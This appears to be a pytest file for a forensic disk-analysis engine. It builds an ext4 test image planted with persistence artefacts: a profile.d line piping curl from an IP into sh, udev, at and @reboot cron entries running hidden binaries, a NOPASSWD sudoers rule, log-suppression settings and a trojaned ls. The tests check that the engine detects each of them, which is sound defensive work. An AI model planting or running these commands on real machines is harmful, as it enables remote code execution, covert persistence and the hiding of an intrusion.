"""What the detection catalogue needs from a disk, on a small real ext4 image (merged /usr, a dpkg
database, udev, at, sudoers, start-up scripts): rows in disk/persistence, disk/package_files and
the md5 beside sha256 in disk/files."""

from __future__ import annotations

import hashlib
import os

import pytest

from tests.helpers import disk_images as b
from tests.helpers.contexts import engine_context
from toolkit.engines.disk import run
from toolkit.engines.disk.commands import program_of
from toolkit.engines.disk.persistence_files import at_job_command
from toolkit.schemas import validate

LS = b"\x7fELF-the-real-ls" * 10
TREE = b"\x7fELF-tree"
UDEV_RULE = (
    'ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c \'/var/tmp/.n/hook &\'"\n'
    '# RUN+="/commented/out"\nKERNEL=="sd*", RUN{builtin}+="blkid"\n'
)
SUDOERS = "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n"
TROJAN = b"\x7fELF-not-the-real-ls" * 10
AT_JOB = (
    "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nPATH=/usr/bin:/bin; export PATH\n"
    "cd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n"
    "${SHELL:-/bin/sh} << 'marcinDELIMITER0c1f2e3d'\n/var/tmp/.q/run --once\nmarcinDELIMITER0c1f2e3d\n"
)


@pytest.fixture(scope="module")
def tables(tmp_path_factory):
    d = tmp_path_factory.mktemp("persist")
    files = {
        "etc/hostname": "app\n",
        "etc/passwd": "root:x:0:0:root:/root:/bin/bash\nbob:x:1002:1002::/home/bob:/bin/bash\n",
        "etc/group": "root:x:0:\n",
        "usr/bin/ls": (TROJAN, 0o755),
        "usr/bin/tree": (TREE, 0o755),
        "usr/lib/udev/scsi_id": (b"\x7fELF-scsi", 0o755),
        "etc/udev/rules.d/75-net-fix.rules": UDEV_RULE,
        "usr/lib/udev/rules.d/60-storage.rules": 'KERNEL=="sd*", RUN+="/usr/lib/udev/scsi_id --whitelisted"\n',
        "var/spool/cron/atjobs/a0001201c": AT_JOB,
        "var/spool/cron/atjobs/.SEQ": "2\n",
        "etc/sudoers": SUDOERS,
        "etc/sudoers.d/90-svc": "# service account\nwww-data ALL=(ALL) NOPASSWD: ALL\n",
        "etc/profile.d/fix.sh": "export LANG=C.UTF-8\ncurl -s http://198.51.100.4/p | sh\n",
        "etc/rsyslog.conf": "# rules\nauth,authpriv.*\t/var/log/auth.log\n",
        "etc/cron.d/0sync": "SHELL=/bin/sh\n@reboot root /home/bob/.config/.d/agent >/dev/null 2>&1\n",
        "var/spool/cron/crontabs/bob": "# m h dom mon dow command\n@hourly /usr/bin/uptime\n",
        "etc/rsyslog.d/00-q.conf": "authpriv.* stop\n",
        "etc/rsyslog.d/notes.txt": "not read: rsyslog includes *.conf only\n",
        "etc/systemd/journald.conf.d/zz.conf": "[Journal]\n# keep it in RAM\nStorage=volatile\n",
        "var/lib/dpkg/info/coreutils.list": "/.\n/bin\n/bin/ls\n/usr\n/usr/bin\n",
        "var/lib/dpkg/info/coreutils.md5sums": f"{hashlib.md5(LS).hexdigest()}  bin/ls\n",
        "var/lib/dpkg/info/tree.list": "/usr/bin/tree\n",
        "var/lib/dpkg/info/tree.md5sums": f"{hashlib.md5(TREE).hexdigest()}  usr/bin/tree\n",
    }
    tree = b.write_tree(d / "tree", files)
    os.symlink("usr/bin", tree / "bin")  # merged /usr: dpkg says /bin/ls, the disk holds /usr/bin/ls
    raw = b.make_ext4(tree, d / "disk.raw", 16)
    out = run(
        {"id": "p", "disks": [{"path": str(raw), "format": "raw", "role": "disk", "snapshot": None}]},
        engine_context(d / "work", {"disk": {"functions": ["users", "cronjobs"]}}, snapshot_id="p"),
    )
    for name, df in out.items():
        validate(name, df)
    return out


def _kind(tables, kind):
    p = tables["disk/persistence"]
    return p[p["kind"] == kind]


def test_udev_rules_with_run_become_entries(tables):
    udev = _kind(tables, "udev").set_index("path")
    hook = udev.loc["/etc/udev/rules.d/75-net-fix.rules"]
    assert (hook["command"], hook["program"], hook["user"]) == (
        "/bin/sh -c '/var/tmp/.n/hook &'",
        "/var/tmp/.n/hook",
        "root",
    )
    assert udev.loc["/usr/lib/udev/rules.d/60-storage.rules", "program_path"] == "/usr/lib/udev/scsi_id"
    assert len(udev) == 2, "comments and udev builtins are no programs"


def test_at_jobs_without_their_preamble(tables):
    at = _kind(tables, "at")
    assert at[["path", "command", "program", "user"]].values.tolist() == [
        ["/var/spool/cron/atjobs/a0001201c", "/var/tmp/.q/run --once", "/var/tmp/.q/run", "0"]
    ]
    assert at_job_command(AT_JOB) == "/var/tmp/.q/run --once"


def test_sudoers_rules_and_start_up_script_content(tables):
    sudo = _kind(tables, "sudoers")
    assert sudo[sudo["path"] == "/etc/sudoers.d/90-svc"]["command"].tolist() == ["www-data ALL=(ALL) NOPASSWD: ALL"]
    assert "%sudo ALL=(ALL:ALL) ALL" in set(sudo["command"]) and not sudo["command"].str.contains("includedir").any()
    rc = _kind(tables, "shell_rc").set_index("path")
    assert "curl -s http://198.51.100.4/p | sh" in rc.loc["/etc/profile.d/fix.sh", "command"]


def test_cron_lines_scheduled_by_a_shortcut(tables):
    cron = _kind(tables, "cron")
    short = cron[cron["schedule"].astype(str).str.startswith("@")]
    assert short[["path", "user", "schedule", "command", "program"]].values.tolist() == [
        [
            "/etc/cron.d/0sync",
            "root",
            "@reboot",
            "/home/bob/.config/.d/agent >/dev/null 2>&1",
            "/home/bob/.config/.d/agent",
        ],
        ["/var/spool/cron/crontabs/bob", "bob", "@hourly", "/usr/bin/uptime", "/usr/bin/uptime"],
    ]


def test_logging_daemons_settings_one_row_per_line(tables):
    rows = _kind(tables, "log_config")[["path", "command"]].values.tolist()
    assert rows == [
        ["/etc/rsyslog.conf", "auth,authpriv.*\t/var/log/auth.log"],
        ["/etc/rsyslog.d/00-q.conf", "authpriv.* stop"],
        ["/etc/systemd/journald.conf.d/zz.conf", "Storage=volatile"],
    ]


def test_package_files_on_a_merged_usr_disk_and_md5_beside_sha256(tables):
    pf = tables["disk/package_files"].set_index("path")
    assert (
        pf.loc["/usr/bin/ls", "package"] == "coreutils" and pf.loc["/usr/bin/ls", "md5"] == hashlib.md5(LS).hexdigest()
    )
    assert "/bin/ls" not in pf.index and pf["installed_ts"].notna().all()
    assert set(pf.loc["/usr/bin", "package"].split(",")) == {"coreutils"}
    files = tables["disk/files"].set_index("path")
    assert files.loc["/usr/bin/ls", "md5"] == hashlib.md5(TROJAN).hexdigest()
    assert files.loc["/usr/bin/ls", "sha256"] == hashlib.sha256(TROJAN).hexdigest()
    assert files.loc["/usr/bin/tree", "md5"] == pf.loc["/usr/bin/tree", "md5"]


@pytest.mark.parametrize(
    "command, program",
    [
        ("/usr/bin/python3 -u /opt/app/serve.py --port 80", "/opt/app/serve.py"),
        ("python3 -m http.server", "python3"),
        ("/bin/bash", "/bin/bash"),
        ("/bin/bash /usr/local/sbin/backup.sh", "/usr/local/sbin/backup.sh"),
        ("perl -e 'print 1'", "perl"),
    ],
)
def test_an_interpreter_entry_runs_its_script(command, program):
    assert program_of(command) == program
